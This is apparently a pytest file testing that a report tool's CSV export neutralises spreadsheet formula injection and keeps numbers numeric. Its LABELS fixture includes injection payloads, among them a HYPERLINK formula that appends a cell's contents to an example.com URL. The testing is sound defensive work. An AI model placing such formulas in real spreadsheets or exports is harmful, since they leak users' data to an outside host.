"""Tables of the report as files for a spreadsheet: text stays text, and numbers stay numbers."""

import csv
import dataclasses
import json
from pathlib import Path

import pytest
from tests.factories import make_run, make_spec

from arithmos.store import Store

html = pytest.importorskip("arithmos.report.page.html", reason="the extra report is not installed")

LABELS = [
    '=HYPERLINK("http://example.com?"&A1,"a label")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "＝1+1",
    "a, b",
    'a "label"',
    "harmless = 1",
]


@pytest.fixture(scope="module")
def page(chromium, tmp_path_factory):
    """The report on runs that are in no experiment, which have their labels from the store."""
    folder = tmp_path_factory.mktemp("downloads")
    for number, label in enumerate(LABELS):
        spec = make_spec(hidden_size=number + 1)
        spec = dataclasses.replace(spec, model=dataclasses.replace(spec.model, label=label))
        Store(folder / "runs").append([make_run(spec)])
    [path] = html.write(folder / "report.html", folder / "runs")
    page = chromium.new_page()
    page.goto(path.as_uri())
    return page


@pytest.fixture(scope="module")
def download(page):
    """Downloads the table of these runs."""

    def download(kind):
        with page.expect_download() as found:
            page.locator(f'[data-table="other-runs"][data-as="{kind}"]').click()
        return Path(found.value.path()).read_text(encoding="utf-8")

    return download


def test_formulas_in_a_table_are_text_to_a_spreadsheet(download):
    head, *rows = csv.reader(download("csv").splitlines())
    found = {row[head.index("label")]: row for row in rows}
    assert {*found} == {*(f"'{label}" for label in LABELS[:5]), *LABELS[5:]}
    for row in rows:
        numbers = [row[head.index(name)] for name in ("input_size", "hidden_size", "iterations", "runs", "solved")]
        assert all(number.isdigit() for number in numbers)
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def test_numbers_stay_numbers(page):
    table = {"columns": ["a"], "rows": [[-1.5], ["-1.5"], [None], [1e-20], ["\tb"], [True]]}
    text = page.evaluate("table => written(table, 'csv')", table)
    assert text.split("\r\n") == ["a", "-1.5", "'-1.5", "", "1e-20", '"\'\tb"', "true"]


def test_a_table_in_json_has_its_text_as_it_is(download):
    assert {row["label"] for row in json.loads(download("json"))} == {*LABELS}
